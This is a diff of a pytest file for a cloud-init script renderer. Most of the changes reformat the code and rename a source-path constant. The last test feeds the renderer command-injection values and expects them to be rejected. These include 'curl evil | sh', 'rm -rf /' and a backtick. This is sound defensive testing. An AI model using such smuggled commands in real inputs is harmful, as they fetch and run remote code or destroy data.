@@ -1,4 +1,5 @@
 """The web server's cloud-init script: valid bash, small enough for EC2, secret-free, and carrying the real app."""
+
 from __future__ import annotations
 
 import ast
@@ -13,7 +14,14 @@ import sys
 import pytest
 
 from constructs_lib.web_app.user_data import (
-    APP_DIR, APP_IAM_ACTIONS, APP_SOURCE_PATH, CA_BUNDLE_URL, CA_FILE, EC2_USER_DATA_LIMIT, render_user_data)
+    APP_DIR,
+    APP_IAM_ACTIONS,
+    CA_BUNDLE_URL,
+    CA_FILE,
+    EC2_USER_DATA_LIMIT,
+    app_source_path,
+    render_user_data,
+)
 
 ARGS = dict(region="eu-west-1", cluster_identifier="aurora-web-db-7f3a", database_name="sample_db")
 
@@ -43,8 +51,9 @@ def test_passes_shellcheck(script):
     shellcheck = shutil.which("shellcheck")
     if shellcheck is None:
         pytest.skip("shellcheck not installed (apt-get install shellcheck)")
-    result = subprocess.run([shellcheck, "--shell=bash", "--severity=style", "-"], input=script, text=True,
-                            capture_output=True)
+    result = subprocess.run(
+        [shellcheck, "--shell=bash", "--severity=style", "-"], input=script, text=True, capture_output=True
+    )
     assert result.returncode == 0, result.stdout + result.stderr
 
 
@@ -68,27 +77,35 @@ def test_names_the_cluster_but_holds_no_secret(script):
 
 
 def test_embeds_the_package_app_unchanged(script):
-    source = APP_SOURCE_PATH.read_bytes()
+    source = app_source_path().read_bytes()
     assert embedded_app(script) == source
     assert f"echo '{hashlib.sha256(source).hexdigest()}  {APP_DIR}/employee_directory.py' | sha256sum" in script
 
 
 def test_app_and_entry_point_are_python_3_9(script):
     """mod_wsgi on Amazon Linux 2023 runs the system Python 3.9."""
-    ast.parse(APP_SOURCE_PATH.read_text(encoding="utf-8"), feature_version=(3, 9))
+    ast.parse(app_source_path().read_text(encoding="utf-8"), feature_version=(3, 9))
     ast.parse(heredocs(script)["EMPLOYEE_DIRECTORY_WSGI"], feature_version=(3, 9))
 
 
 def test_install_steps_write_a_working_entry_point(script, tmp_path):
     """Run the script's own install lines (real python3 and sha256sum) into a temporary directory."""
     start = script.index(f"install -d -m 0755 {APP_DIR}\n")
-    steps = script[start:script.index("cat > /etc/httpd/conf.d/")].replace(APP_DIR, str(tmp_path))
+    steps = script[start : script.index("cat > /etc/httpd/conf.d/")].replace(APP_DIR, str(tmp_path))
     subprocess.run(["bash", "-c", "set -euo pipefail\n" + steps], check=True, capture_output=True)
-    assert (tmp_path / "employee_directory.py").read_bytes() == APP_SOURCE_PATH.read_bytes()
-    probe = ("import runpy; app = runpy.run_path('app.wsgi')['application']; s = app.store.source; "
-             "print(type(s).__name__, s.region, s.cluster_identifier, s.ca_file, app.store.database)")
-    result = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, env={"PYTHONPATH": str(tmp_path)},
-                            capture_output=True, text=True, check=True)
+    assert (tmp_path / "employee_directory.py").read_bytes() == app_source_path().read_bytes()
+    probe = (
+        "import runpy; app = runpy.run_path('app.wsgi')['application']; s = app.store.source; "
+        "print(type(s).__name__, s.region, s.cluster_identifier, s.ca_file, app.store.database)"
+    )
+    result = subprocess.run(
+        [sys.executable, "-c", probe],
+        cwd=tmp_path,
+        env={"PYTHONPATH": str(tmp_path)},
+        capture_output=True,
+        text=True,
+        check=True,
+    )
     assert result.stdout.split() == ["AwsSettingsSource", "eu-west-1", "aurora-web-db-7f3a", CA_FILE, "sample_db"]
 
 
@@ -105,11 +122,19 @@ def test_rendering_is_deterministic(script):
     assert render_user_data(**ARGS) == script
 
 
-@pytest.mark.parametrize("field, value", [
-    ("region", "eu-west-1; curl evil | sh"), ("region", "${TfToken[TOKEN.12]}"),
-    ("cluster_identifier", "db'; rm -rf /"), ("cluster_identifier", "a" * 64), ("cluster_identifier", "ends-"),
-    ("database_name", "sample`"), ("database_name", "1sample"), ("database_name", ""),
-])
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("region", "eu-west-1; curl evil | sh"),
+        ("region", "${TfToken[TOKEN.12]}"),
+        ("cluster_identifier", "db'; rm -rf /"),
+        ("cluster_identifier", "a" * 64),
+        ("cluster_identifier", "ends-"),
+        ("database_name", "sample`"),
+        ("database_name", "1sample"),
+        ("database_name", ""),
+    ],
+)
 def test_refuses_values_that_are_not_plain_names(field, value):
     with pytest.raises(ValueError, match="not a plain"):
         render_user_data(**{**ARGS, field: value})
